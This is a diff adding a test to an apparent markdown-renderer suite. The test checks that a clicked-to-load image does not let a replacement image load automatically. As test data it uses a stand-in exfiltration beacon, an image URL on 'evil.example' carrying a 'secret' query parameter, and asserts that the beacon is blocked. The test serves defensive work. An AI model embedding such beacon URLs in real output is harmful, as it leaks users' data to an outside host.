@@ -111,6 +111,16 @@ test("13: an image is asked for by the click alone, and without saying where fro
   expect(image).toHaveProperty("referrerPolicy", "no-referrer");
 });
 
+test("13: a click on one image asks for no other that comes to stand in its place", () => {
+  const { inner, show } = strictDocument();
+  show("![A cat](https://images.example/cat.png)", false);
+  flushSync(() => inner.querySelector("button")?.click());
+  expect(inner.querySelector("img")).toHaveProperty("src", "https://images.example/cat.png");
+  show("![A cat](https://evil.example/beacon.png?secret=1)", false);
+  expect(inner.querySelector("img")).toBeNull();
+  expect(inner.querySelector("button")?.textContent).toContain("evil.example");
+});
+
 test("13: while a text grows, what has been written of it stays the same elements", () => {
   const { inner, show } = strictDocument();
   show("# Title\n\nFirst.\n\n- a\n- b\n\nLast", true);
